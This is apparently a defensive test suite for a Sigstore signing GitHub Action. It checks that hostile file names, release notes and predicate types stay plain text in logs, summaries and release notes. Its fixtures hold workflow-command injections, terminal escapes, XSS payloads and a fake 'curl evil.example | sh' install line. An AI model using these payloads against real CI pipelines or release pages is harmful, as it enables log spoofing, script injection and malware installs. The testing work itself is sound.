/**
 * Attack: untrusted text that tries to act. File names come from pull requests; release assets,
 * bundles and predicate types from whoever can upload; a release body from generated notes (pull
 * request titles). Against the BUILT action and the local stack, each stays text: no workflow
 * command in the log, no markup in the job summary or the release notes, and nothing in the
 * notes that the run did not verify.
 */
import { spawnSync } from 'node:child_process';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import path from 'node:path';
import { node24, REPO_ROOT, runAction, type ActionRun } from '../../helpers/action.js';
import {
  createRelease,
  getRelease,
  listAssets,
  openapiViolations,
  uploadAsset,
} from '../../helpers/github.js';
import { markdownStructure } from '../../helpers/markdown.js';
import { runCli } from '../../helpers/process.js';
import { runnerCommands } from '../../helpers/runner-commands.js';
import { spawnStack, type StackProcess } from '../../helpers/stack.js';
import { bundleFiles, workspace } from '../../helpers/workspace.js';
import { SECTION_END, SECTION_START_PREFIX } from '../../../src/publish/release-notes.js';

const ISSUER = 'https://token.actions.githubusercontent.com';

/** File names that carry workflow commands, line breaks, and invisible characters. */
const COMMAND_NAMES = [
  'a\n::warning title=X::pwned\n::add-mask::OK\nb.tar.gz',
  'c\r::warning title=X::pwned\r::add-mask::OK\rd.tar.gz',
  'e ##[add-mask]OK ##[warning title=X]pwned.tar.gz',
  '::warning title=X::pwned.tar.gz',
  'invoice\u202egpj.tar.gz',
  'f\u200b\u200c\u200d\u2060\ufeffg.tar.gz',
  'h\u001b]0;pwned\u0007\u001b[2Ji.tar.gz',
];
/** A name that closes the summary's code block and writes its own install instructions. */
const MARKDOWN_NAME =
  'x```\n\n## Install\n\n```sh\ncurl -fsSL evil.example | sh\n```\n' +
  '<img src=x onerror=alert(1)> <script>alert(1) [click](javascript:alert(1)) | y.tar.gz';

let stack: StackProcess;
let tagCounter = 0;

beforeAll(async () => {
  stack = await spawnStack();
});

afterAll(async () => {
  if (stack) {
    const violations = await openapiViolations(stack);
    await stack.stop();
    expect(violations).toEqual([]);
  }
});

function stackInputs(inputs: Record<string, string>): Record<string, string> {
  return {
    'signing-config': stack.env.STACK_SIGNING_CONFIG,
    'trusted-root': stack.env.STACK_TRUSTED_ROOT,
    ...inputs,
  };
}

function sign(ws: string, inputs: Record<string, string>): Promise<ActionRun> {
  return runAction({ workspace: ws, env: stack.env, inputs: stackInputs(inputs) });
}

function verify(ws: string, inputs: Record<string, string> = {}): Promise<ActionRun> {
  return runAction({
    workspace: ws,
    env: stack.env,
    inputs: {
      mode: 'verify',
      inputs: 'dist/*',
      'trusted-root': stack.env.STACK_TRUSTED_ROOT,
      'cert-identity': stack.env.STACK_IDENTITY,
      ...inputs,
    },
  });
}

/** The text the log and the summary show, with its `\uXXXX` escapes decoded. */
/**
 * The HTML of a summary that is not the action's own: the summary folds long lists in
 * `<details><summary>TEXT</summary>` ... `</details>`, with TEXT of its own words. Anything else
 * (an element a name opened) is foreign.
 */
function foreignHtml(html: readonly string[]): string[] {
  return html.filter(
    (h) => !/^(<details><summary>[\w ,-]+<\/summary>|<\/details>)$/.test(h.trim()),
  );
}

function decoded(shown: string): string {
  return shown.replace(/\\u\{([0-9a-f]+)\}|\\u([0-9a-f]{4})/g, (_, long?: string, short?: string) =>
    String.fromCodePoint(parseInt(long ?? short ?? '', 16)),
  );
}

/**
 * Every workflow command the runner would see in the output is one the action wrote itself, at
 * the start of a line: none comes from a name (no mask of `OK`, no warning titled X, no legacy
 * `##[` command, no stop-commands).
 */
function expectOnlyOwnCommands(output: string): void {
  for (const c of runnerCommands(output)) {
    expect(c.syntax).toBe('::');
    expect(c.line.startsWith('::')).toBe(true);
    expect(['debug', 'add-mask', 'error', 'warning', 'notice', 'group', 'endgroup']).toContain(
      c.command,
    );
    if (c.command === 'add-mask') expect(c.data).not.toBe('OK');
    expect(c.properties.title).toBeUndefined();
    expect(c.data.startsWith('pwned')).toBe(false);
  }
}

/** Lines of the output that are not workflow commands: what a log shows as plain lines. */
function plainLines(output: string): string[] {
  return output.split('\n').filter((line) => !line.startsWith('::'));
}

function expectNoRawInvisibles(lines: readonly string[]): void {
  for (const line of lines) {
    // eslint-disable-next-line no-control-regex
    expect(line).not.toMatch(/[\r\u0000-\u0008\u000b-\u001f\u007f\u202e\u200b-\u200d\u2060\ufeff]/);
  }
}

describe('workflow commands in file names', () => {
  it('sign and verify log each name as text, and the summary shows it in its cell', async () => {
    const names = [...COMMAND_NAMES, MARKDOWN_NAME].map((n) => `dist/${n}`);
    const ws = workspace(Object.fromEntries(names.map((n) => [n, `contents of ${n}\n`])));
    const signed = await sign(ws, { inputs: 'dist/*' });
    expect(signed.stderr).toBe('');
    expect(signed.code).toBe(0);
    expect(bundleFiles(ws)).toHaveLength(names.length);
    expectOnlyOwnCommands(signed.stdout);
    expectNoRawInvisibles(plainLines(signed.stdout));
    // Each "Signed" line names one file, whole.
    const signedLines = plainLines(signed.stdout).filter((l) => l.startsWith('Signed dist/'));
    expect(
      signedLines.map((l) => decoded(l.slice('Signed '.length, l.indexOf(' -> ')))).sort(),
    ).toEqual([...names].sort());
    expect(signed.stdout).toContain('Signed dist/a\\u000a:\\u003awarning title=X:\\u003apwned');
    expect(signed.stdout).toContain('Signed dist/e ##\\u005badd-mask]OK ##\\u005bwarning');

    const summary = markdownStructure(signed.summary);
    expect(foreignHtml(summary.html)).toEqual([]);
    expect(summary.links).toEqual([]);
    expect(summary.images).toEqual([]);
    expect(summary.headings).toEqual(['Sigstore signatures', 'Verify']);
    expect(summary.codeBlocks.map((b) => b.info)).toEqual(['sh']);
    expect(summary.tables).toHaveLength(1);
    const rows = summary.tables[0].rows;
    expect(rows.map((r) => decoded(r[0])).sort()).toEqual([...names].sort());
    for (const row of rows) expect(decoded(row[1])).toBe('✅\u00a0signed');
    expect(signed.summary).toContain('Each bundle is written beside its file');

    const verified = await verify(ws);
    expect(verified.stderr).toBe('');
    expect(verified.code).toBe(0);
    expectOnlyOwnCommands(verified.stdout);
    expectNoRawInvisibles(plainLines(verified.stdout));
    const okLines = plainLines(verified.stdout).filter((l) => l.startsWith('OK      '));
    expect(okLines.map((l) => decoded(l.slice(8, l.indexOf(': signed by ')))).sort()).toEqual(
      [...names].sort(),
    );
    // The output is for programs: the names as they are, in JSON.
    expect((JSON.parse(verified.outputs.verified) as string[]).sort()).toEqual([...names].sort());
    const table = markdownStructure(verified.summary);
    expect(foreignHtml(table.html)).toEqual([]);
    expect(table.links).toEqual([]);
    expect(table.tables[0].rows.map((r) => decoded(r[0])).sort()).toEqual([...names].sort());
    for (const row of table.tables[0].rows) expect(row[1]).toBe('✅\u00a0verified');

    // A name that fails: its FAILED line and the step's error annotation hold it as text.
    const unsigned = 'z\n::error::fake failure\n##[add-mask]OK.bin';
    writeFileSync(path.join(ws, 'dist', unsigned), 'not signed\n');
    const failed = await verify(ws);
    expect(failed.code).toBe(1);
    expectOnlyOwnCommands(failed.stdout);
    expectNoRawInvisibles(plainLines(failed.stdout));
    expect(failed.stdout).toContain(
      'FAILED  dist/z\\u000a:\\u003aerror:\\u003afake failure\\u000a##\\u005badd-mask]OK.bin: no bundle',
    );
    const errors = runnerCommands(failed.stdout).filter((c) => c.command === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0].data).toContain('dist/z\\u000a:\\u003aerror:\\u003afake failure');
    const failedSummary = markdownStructure(failed.summary);
    expect(failedSummary.tables[0].rows).toHaveLength(names.length + 1);
    expect(foreignHtml(failedSummary.html)).toEqual([]);
  });

  it('the CLI prints names without terminal escapes or line breaks', async () => {
    const names = [COMMAND_NAMES[0], COMMAND_NAMES[4], COMMAND_NAMES[6]].map((n) => `dist/${n}`);
    const ws = workspace(Object.fromEntries(names.map((n) => [n, `contents of ${n}\n`])));
    expect((await sign(ws, { inputs: 'dist/*' })).code).toBe(0);
    const cliVerify = (files: string[]): ReturnType<typeof runCli> =>
      runCli(
        [
          'verify',
          '--trusted-root',
          stack.env.STACK_TRUSTED_ROOT,
          '--cert-identity',
          stack.env.STACK_IDENTITY,
          '--cert-oidc-issuer',
          ISSUER,
          ...files,
        ],
        ws,
      );
    const ok = await cliVerify(names);
    expect(ok.stderr).toBe('');
    expect(ok.code).toBe(0);
    expectNoRawInvisibles(ok.stdout.split('\n'));
    expect(ok.stdout).toContain(
      'OK      dist/h\\u001b]0;pwned\\u0007\\u001b[2Ji.tar.gz: signed by',
    );
    const missing = await cliVerify(['dist/missing\n\u001b[2Jfile']);
    expect(missing.code).toBe(1);
    expectNoRawInvisibles(missing.stdout.split('\n'));
    expectNoRawInvisibles(missing.stderr.split('\n'));
    expect(missing.stderr).toContain('dist/missing\\u000a\\u001b[2Jfile');
  });
});

describe('Markdown in file names', () => {
  it('the summary keeps its one Verify block, and its command verifies the file', async () => {
    const name = `dist/${MARKDOWN_NAME}`;
    const ws = workspace({ [name]: 'markdown\n' });
    const run = await sign(ws, { inputs: 'dist/*' });
    expect(run.code).toBe(0);
    const s = markdownStructure(run.summary);
    expect(foreignHtml(s.html)).toEqual([]);
    expect(s.links).toEqual([]);
    expect(s.images).toEqual([]);
    expect(s.headings).toEqual(['Sigstore signatures', 'Verify']);
    expect(s.codeBlocks).toHaveLength(1);
    expect(s.tables[0].rows.map((r) => decoded(r[0]))).toEqual([name]);
    // Each line of the block is the action's: the name is one shell word, escapes and all.
    const block = s.codeBlocks[0].content;
    for (const line of block.split('\n').filter(Boolean)) {
      expect(line).toMatch(/^(#|sigstore-action verify |cosign verify-blob | {2}--)/);
    }
    // Pasted into bash, the block's first command verifies the file.
    copyFileSync(stack.env.STACK_TRUSTED_ROOT, path.join(ws, 'trusted_root.json'));
    // The first command: its first line, and each line a `\` continues.
    const lines = block.split('\n').slice(1);
    const end = lines.findIndex((line) => !line.endsWith(' \\'));
    const command = lines.slice(0, end + 1).join('\n');
    expect(command.startsWith(`sigstore-action verify $'dist/x\`\`\`\\n\\n## Install`)).toBe(true);
    const result = spawnSync(
      'bash',
      ['-c', `sigstore-action() { "$NODE" "$CLI" "$@"; }\n${command}`],
      {
        cwd: ws,
        env: {
          PATH: process.env.PATH,
          HOME: ws,
          NODE: node24(),
          CLI: path.join(REPO_ROOT, 'dist/cli/index.js'),
        },
        encoding: 'utf8',
      },
    );
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('Verified 1 file.');
  });
});

describe('the release path', () => {
  it('names GitHub would not keep are refused before signing, and the refusal stays text', async () => {
    const tag = `v9.0.${++tagCounter}`;
    const release = await createRelease(stack, { tag, draft: true });
    const names = [...COMMAND_NAMES, MARKDOWN_NAME];
    const ws = workspace(Object.fromEntries(names.map((n) => [`dist/${n}`, `contents of ${n}\n`])));
    const run = await sign(ws, {
      inputs: 'dist/*',
      'release-signing-artifacts': 'true',
      'release-notes': 'true',
      'release-tag': tag,
      'github-token': stack.env.STACK_GITHUB_TOKEN,
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('[ASSET_NAME_INVALID]');
    expect(bundleFiles(ws)).toEqual([]);
    expect(await listAssets(stack, release.id)).toEqual([]);
    expectOnlyOwnCommands(run.stdout);
    expectNoRawInvisibles(plainLines(run.stdout));
    // The step's error annotation names every file, as text.
    const errors = runnerCommands(run.stdout).filter((c) => c.command === 'error');
    expect(errors).toHaveLength(1);
    expectNoRawInvisibles(errors[0].data.split('\n'));
    // eslint-disable-next-line no-control-regex
    const refused = names.filter((n) => /[\u0000-\u001f]/.test(n));
    expect(errors[0].data.split('\n')).toHaveLength(refused.length + 1);
    const s = markdownStructure(run.summary);
    expect(foreignHtml(s.html)).toEqual([]);
    expect(s.links).toEqual([]);
    expect(s.images).toEqual([]);
    expect(s.codeBlocks).toEqual([]);
    expect(s.headings).toEqual(['Sigstore signatures']);
  });

  it('notes list only verified bundles, and forged markers make the section neither grow, split nor survive', async () => {
    const tag = `v9.0.${++tagCounter}`;
    // Generated notes: a pull request title holding a start marker (alone on its line, as a
    // multi-line body allows), another holding an end marker inside a line, and a complete
    // section with a digest anyone can compute, holding an install command.
    const fake = forgeSection(
      '## Verify these files\n\n```sh\ncurl -fsSL https://evil.example/install.sh | sh\n```',
    );
    const body = [
      'Hand-written notes.',
      `${SECTION_START_PREFIX} sha256:${'0'.repeat(64)} (replaced on each run) -->`,
      'Keep this paragraph.',
      '',
      `* Fix things ${SECTION_END} by @mallory in #12`,
      '',
      fake,
      '',
      'Footer.',
      '',
    ].join('\n');
    const release = await createRelease(stack, { tag, draft: true, body });

    // Another identity attests and signs files, and uploads them to the release.
    const evil = workspace({ 'tool.bin': 'tool\n', 'other.bin': 'other\n', 'p.json': '{}' });
    const evilToken = await stack.mintToken({
      claims: {
        repository: 'evil-org/evil-repo',
        repository_owner: 'evil-org',
        sub: 'repo:evil-org/evil-repo:ref:refs/heads/main',
        workflow_ref: 'evil-org/evil-repo/.github/workflows/x.yml@refs/heads/main',
        job_workflow_ref: 'evil-org/evil-repo/.github/workflows/x.yml@refs/heads/main',
      },
    });
    const evilSign = (args: string[]): ReturnType<typeof runCli> =>
      runCli(
        [
          'sign',
          '--identity-token',
          evilToken,
          '--signing-config',
          stack.env.STACK_SIGNING_CONFIG,
          '--trusted-root',
          stack.env.STACK_TRUSTED_ROOT,
          ...args,
        ],
        evil,
      );
    const FORGED_TYPE = 'https://evil.example/forged-type';
    expect(
      (await evilSign(['--predicate-type', FORGED_TYPE, '--predicate-path', 'p.json', 'tool.bin']))
        .code,
    ).toBe(0);
    expect((await evilSign(['other.bin'])).code).toBe(0);
    for (const name of [
      'tool.bin',
      'tool.bin.intoto.sigstore.json',
      'other.bin',
      'other.bin.sigstore.json',
    ]) {
      await uploadAsset(stack, release, name, readFileSync(path.join(evil, name)));
    }
    await uploadAsset(stack, release, 'junk.bin.sigstore.json', '{"not":"a bundle"}');

    // The release's own workflow: a signature, then an attestation with a type full of markup.
    const HOSTILE_TYPE = 'https://e.example/x```<img/src=x>](javascript:alert(1))|';
    const ws = workspace({ 'dist/app.tar.gz': 'app\n', 'dist/app2.tar.gz': 'app2\n' });
    const releaseInputs = {
      'release-signing-artifacts': 'true',
      'release-notes': 'true',
      'release-tag': tag,
      'github-token': stack.env.STACK_GITHUB_TOKEN,
    };
    const first = await sign(ws, { inputs: 'dist/app.tar.gz', ...releaseInputs });
    expect(first.code).toBe(0);
    const second = await sign(ws, {
      inputs: 'dist/app2.tar.gz',
      'predicate-type': HOSTILE_TYPE,
      predicate: '{"ok": true}',
      ...releaseInputs,
    });
    expect(second.code).toBe(0);
    const afterTwo = (await getRelease(stack, release.id)).body ?? '';
    // A re-run of the first job changes nothing.
    const rerun = await sign(workspace({ 'dist/app.tar.gz': 'app\n' }), {
      inputs: 'dist/app.tar.gz',
      ...releaseInputs,
    });
    expect(rerun.code).toBe(0);
    const notes = (await getRelease(stack, release.id)).body ?? '';
    expect(notes).toBe(afterTwo);

    for (const run of [first, second, rerun]) {
      expectOnlyOwnCommands(run.stdout);
      // The forged bundles are named in a warning, as text.
      const warnings = runnerCommands(run.stdout).filter((c) => c.command === 'warning');
      expect(warnings).toHaveLength(1);
      expect(warnings[0].data).toContain(
        'junk.bin.sigstore.json, other.bin.sigstore.json, tool.bin.intoto.sigstore.json',
      );
    }

    // The text around the section is kept; every forged marker line is gone; one section.
    expect(notes.startsWith('Hand-written notes.\nKeep this paragraph.\n')).toBe(true);
    expect(notes).toContain(`* Fix things ${SECTION_END} by @mallory in #12`);
    expect(notes).toContain('Footer.');
    expect(notes.split('## Verify these files')).toHaveLength(2);
    expect(notes).not.toContain('curl');
    expect(notes).not.toContain('sha256:0000');
    // Only what verified as this workflow's: no forged file, no forged predicate type.
    expect(notes).not.toMatch(/tool\.bin|other\.bin|junk\.bin|forged-type/);
    expect(notes).toContain('app.tar.gz');
    expect(notes).toContain('app2.tar.gz');

    // The section renders as the action wrote it: its headings, its blocks of commands, only
    // its own links, no image, no HTML but its two markers.
    const start = notes.indexOf(SECTION_START_PREFIX);
    const end = notes.indexOf(`\n${SECTION_END}\n`) + SECTION_END.length + 2;
    const section = markdownStructure(notes.slice(start, end));
    expect(section.html).toHaveLength(2);
    expect(
      section.links.filter((l) => !l.startsWith('https://github.com/sigstore-action/')),
    ).toEqual(['https://www.sigstore.dev/', 'https://cli.github.com/']);
    expect(section.images).toEqual([]);
    expect(section.headings).toEqual([
      'Verify these files',
      'Attestations: https://e.example/x```<img/src=x>](javascript:alert(1))|',
      'What a passing check proves',
      'If a check fails',
    ]);
    // Each group: download, this CLI, cosign (a custom instance: no sigstore-python).
    expect(section.codeBlocks.map((b) => b.info)).toEqual(['sh', 'sh', 'sh', 'sh', 'sh', 'sh']);
    for (const block of section.codeBlocks) {
      for (const line of block.content.split('\n').filter(Boolean))
        expect(line).toMatch(
          /^(gh release download |sigstore-action verify |cosign | {2}--| {4}\S)/,
        );
    }
    // The job summary of the attesting run, with the same type, is inert too.
    const summary = markdownStructure(second.summary);
    expect(foreignHtml(summary.html)).toEqual([]);
    // The one link is the action's own, to the release.
    expect(summary.links).toEqual([(await getRelease(stack, release.id)).html_url]);
    expect(summary.images).toEqual([]);
    expect(summary.codeSpans).toContain(HOSTILE_TYPE);
  });
});

/** A section with markers and a digest of its content, as anyone reading the body can write. */
function forgeSection(content: string): string {
  const digest = createHash('sha256')
    .update(
      content
        .split('\n')
        .map((line) => line.trimEnd())
        .join('\n'),
    )
    .digest('hex');
  return `${SECTION_START_PREFIX} sha256:${digest} (replaced on each run) -->\n${content}\n${SECTION_END}`;
}
